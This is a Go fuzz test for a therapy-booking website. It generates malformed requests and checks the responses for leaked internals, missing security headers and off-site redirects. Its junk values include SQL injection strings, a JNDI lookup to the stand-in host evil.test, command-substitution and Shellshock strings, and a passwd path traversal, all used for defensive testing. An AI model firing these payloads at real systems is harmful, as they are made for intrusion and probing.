package site

import (
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
)

var (
	fuzzed   = flag.Int("fuzzed", 4000, "how many requests TestNoRequestBreaksAnything makes up")
	fuzzSeed = flag.Uint64("fuzzseed", 20261123, "what they are made from")
)

// maker makes up requests: mostly almost right, so that they get past the first check.
type maker struct {
	*rand.Rand
	routes []Route
	ids    []string // bookings
	tokens []string
}

func one[T any](m *maker, list ...T) T { return list[m.IntN(len(list))] }

// junk is a value that nobody asked for.
func (m *maker) junk() string {
	switch m.IntN(12) {
	case 0:
		return ""
	case 1:
		return strings.Repeat(one(m, "a", "9", "é", "%", "[", "{", "\u202e", "😀"), 1+m.IntN(300))
	case 2:
		return one(m, "\x00", "\xff\xfe", "a\r\nb: c", "\x1b[2J", "\u2028", "\ufeff", "%00", "%zz", "..", "../../etc/passwd", "nul", "CON")
	case 3:
		return one(m, payloads...)
	case 4:
		return one(m, "-1", "0", "1e309", "NaN", "0x10", "9223372036854775808", "1.0000000001", "00000", "-0", "١٢٣", "1_000", "$", "$1", " 5 ")
	case 5:
		return one(m, "' OR 1=1 --", `" OR ""="`, "1;select pg_sleep(9)", "$1", "{{.}}", "${jndi:ldap://evil.test}", "%s%n%x", "`id`", "() { :;}; x")
	case 6:
		return one(m, "2026-02-30", "0000-00-00", "9999-12-31", "2026-10-04T02:30:00+11:00", "2026-04-05T02:30:00+10:00", "10000-01-01T00:00:00Z", "2026-11-24T10:00:00+24:00", "2026-11-24 10:00", "-0001-01-01")
	case 7:
		var b strings.Builder
		for range m.IntN(40) {
			b.WriteRune(rune(m.IntN(0x2ff)))
		}
		return b.String()
	}
	return fmt.Sprintf("fuzzword%x", m.Uint64())
}

// value is one that fits the name, or junk.
func (m *maker) value(name string) string {
	if m.IntN(3) == 0 {
		return m.junk()
	}
	switch name {
	case "slug", "therapist":
		return one(m, "ada-example", "ben-okafor", "eve-full", "fay-nocall", "una-unlisted", "therapy-costs")
	case "file":
		return one(m, "ada-example.svg", "ben-okafor.svg", "x.svg", "pages.xml", "places.xml", "therapists-1.xml")
	case "id":
		return one(m, m.ids...)
	case "t", "link", "token":
		return one(m, m.tokens...)
	case "state":
		return one(m, "nsw", "vic", "qld,nsw")
	case "subject", "type":
		return one(m, "psychologist", "anxiety", "counsellor")
	case "issue":
		return one(m, "anxiety", "sleep,grief")
	case "place", "near":
		return one(m, "newtown-2042", "2042", "Newtown", "Carlton")
	case "mode":
		return one(m, "video", "phone", "in-person")
	case "service":
		return one(m, "free-consultation", "individual-50")
	case "at", "starts_at":
		return monday.Add(time.Duration(24+m.IntN(900)) * 15 * time.Minute).Format(time.RFC3339)
	case "from":
		return one(m, "2026-11-25", "2026-12-24", "?state=nsw", "ada-example")
	case "for":
		return one(m, "adult", "adult", "child")
	case "email":
		return fmt.Sprintf("c%d@client.example", m.IntN(200))
	case "phone":
		return one(m, "0412 345 678", "+61 2 5550 0100")
	case "tz", "timezone":
		return one(m, "Australia/Perth", "Australia/Sydney", "Antarctica/Casey", "UTC")
	case "code":
		return one(m, "000000", "123456")
	case "sort":
		return one(m, "soonest", "price", "distance", "relevance")
	case "name":
		list := new(Server).fixtures()
		return list[m.IntN(len(list))].Name
	}
	return one(m, "1", "true", "160", "x", "video", "2")
}

var (
	queryNames = strings.Fields("q state type issue issue_match approach group language gender affirming faith access mode format postcode near within_km max_fee reduced max_gap funding free_consultation available accepting sort page per_page t at tz from days service done missing again go")
	formNames  = strings.Fields("t link code at service mode for name email phone note timezone")
)

func (m *maker) pairs(names []string, most int) url.Values {
	v := url.Values{}
	for range m.IntN(most) {
		name := one(m, names...)
		if m.IntN(15) == 0 {
			name = m.junk()
		}
		v.Add(name, m.value(name))
	}
	return v
}

// path fills a route's parameters.
func (m *maker) path(r Route) string {
	parts := strings.Split(r.Path, "/")
	for i, p := range parts {
		if name, ok := strings.CutPrefix(p, ":"); ok {
			parts[i] = url.PathEscape(m.value(name))
		}
	}
	path := strings.Join(parts, "/")
	if m.IntN(40) == 0 {
		path += one(m, "/", "//", "/x", "%2f", ";a=b", ".css", "%00", "/..", "?", "%")
	}
	return path
}

// json is a body of the API, more or less.
func (m *maker) json() string {
	r := result{}
	for _, name := range []string{"therapist", "service", "mode", "starts_at", "note", "code", "tier"} {
		if m.IntN(4) > 0 {
			r[name] = m.value(name)
		}
	}
	client := result{}
	for _, name := range []string{"name", "email", "phone", "timezone"} {
		if m.IntN(4) > 0 {
			client[name] = m.value(name)
		}
	}
	r["client"] = client
	if m.IntN(2) == 0 {
		r = result{one(m, "starts_at", "code", "version", "therapist"): one[any](m, m.value("at"), m.value("code"), m.IntN(9), nil, true, []string{"a"})}
	}
	text, err := json.Marshal(r)
	if err != nil {
		return "{}"
	}
	if m.IntN(6) == 0 { // bitten
		at := m.IntN(len(text))
		return string(text[:at]) + one(m, "", "}", "\"", "\x00", "[[[[", ",,") + string(text[min(len(text), at+m.IntN(4)):])
	}
	return string(text)
}

// request makes up one of everything.
func (m *maker) request() (method, target, body string, headers []string) {
	r := one(m, m.routes...)
	method = r.Method
	if m.IntN(12) == 0 {
		method = one(m, "GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "QUERY")
	}
	target = m.path(r)
	if q := m.pairs(queryNames, 6).Encode(); m.IntN(2) == 0 {
		target += "?" + q
	}
	if m.IntN(60) == 0 {
		target += "?%" + m.junk()
	}
	if method == "POST" || m.IntN(20) == 0 {
		body, headers = m.pairs(formNames, 14).Encode(), []string{"Content-Type", "application/x-www-form-urlencoded"}
		if strings.HasPrefix(target, "/api/") {
			body, headers[1] = m.json(), "application/json"
		}
		if m.IntN(10) == 0 {
			headers[1] = m.junk()
		}
	}
	headers = append(headers, "Authorization", "Bearer "+m.value("token"), "User-Agent", m.junk(), "If-None-Match", m.junk())
	if m.IntN(8) == 0 {
		headers = append(headers, "Idempotency-Key", m.junk(), "Accept-Encoding", m.junk(), "Accept", m.junk(), "Origin", m.junk(), "X-Forwarded-For", m.junk(), "Content-Encoding", m.junk())
	}
	return method, target, body, headers
}

// inside are words that only a failure would show.
var inside = []string{"goroutine ", "runtime error", "panic:", "pq:", "SQLSTATE", "/internal/", "/home/", ".go:", "SELECT ", "INSERT INTO", "<no value>", "ZgotmplZ", "template:"}

// blame says what is wrong with an answer, "" for nothing.
func blame(a reply) string {
	kind := a.Header.Get("Content-Type")
	switch {
	case a.StatusCode >= 500 || a.StatusCode < 200:
		return "the status"
	case a.Header.Get("Content-Security-Policy") == "" || a.Header.Get("X-Content-Type-Options") != "nosniff":
		return "the headers"
	case strings.HasPrefix(a.Request.URL.Path, "/api/v1/") && a.StatusCode >= 400 && kind != "application/problem+json":
		return "no problem+json"
	case strings.HasPrefix(a.Header.Get("Location"), "//") || strings.Contains(a.Header.Get("Location"), "://"):
		return "the redirection to " + a.Header.Get("Location")
	case a.StatusCode >= 400 && kind == "text/html; charset=utf-8" && a.Request.Method != "HEAD" && !strings.Contains(a.text, "</html>"):
		return "half a page"
	case a.StatusCode >= 400 && kind != "text/html; charset=utf-8" && kind != "application/problem+json" && !strings.HasPrefix(a.Request.URL.Path, "/dev/"):
		return "an undesigned answer as " + kind
	}
	for _, w := range inside {
		if strings.Contains(a.text, w) {
			return "the inside: " + w
		}
	}
	return ""
}

func TestNoRequestBreaksAnything(t *testing.T) {
	s := newSite(t)
	m := &maker{Rand: rand.New(rand.NewPCG(*fuzzSeed, 1)), routes: slices.Clone(s.web.Routes()), tokens: []string{"x"}}
	// The gallery shows errors on purpose.
	m.routes = slices.DeleteFunc(m.routes, func(r Route) bool { return strings.HasPrefix(r.Path, "/dev/gallery/") })
	for n := range 12 {
		b := s.held(with("starts_at", fmt.Sprintf("2026-11-24T%d:00:00+11:00", 10+n%9)), with("mode", "video"), with("client.email", fmt.Sprintf("f%d@client.example", n)), with("therapist", []string{"ada-example", "cleo-brisbane"}[n/9]))
		id := b["id"].(string)
		m.ids = append(m.ids, id)
		m.tokens = append(m.tokens, s.web.Booking.ManageToken(id), s.web.Booking.PracticeToken(id), s.web.Booking.LinkToken(id))
	}
	h, seen := s.handler(), map[string]int{}
	for i := range *fuzzed {
		method, target, body, headers := m.request()
		a, ok := s.attempt(h, method, target, body, headers)
		if !ok {
			continue
		}
		seen[fmt.Sprint(a.StatusCode/100, "xx")]++
		if why := blame(a); why != "" {
			t.Fatalf("seed %d, request %d: %s\n%s %s\n%q\n%q\nanswered %d %v\n%s%s", *fuzzSeed, i, why, method, target, headers, body, a.StatusCode, a.Header, short(a.text), a.trouble())
		}
		if i%200 == 0 {
			s.clock.Advance(time.Minute)
		}
	}
	t.Logf("seed %d: %v", *fuzzSeed, seen)
	if seen["2xx"] < *fuzzed/20 || seen["4xx"] < *fuzzed/20 {
		t.Errorf("the requests are too much alike: %v", seen)
	}
	if _, typed, found := strings.Cut(s.log.String(), "fuzzword"); found {
		t.Errorf("the log holds a word that somebody typed: …fuzzword%.80s", typed)
	}
}

// attempt sends what can be sent: some of it is no request at all.
func (s *site) attempt(h http.Handler, method, target, body string, headers []string) (a reply, ok bool) {
	u, err := url.ParseRequestURI(target)
	if err != nil || u.Path == "" {
		return reply{}, false
	}
	return s.through(h, "203.0.113.7:1", method, (&url.URL{Path: u.Path, RawPath: u.RawPath, RawQuery: strings.Map(noSpace, u.RawQuery)}).RequestURI(), body, headers...), true
}

func noSpace(r rune) rune {
	if r <= ' ' || r > '~' {
		return '+'
	}
	return r
}
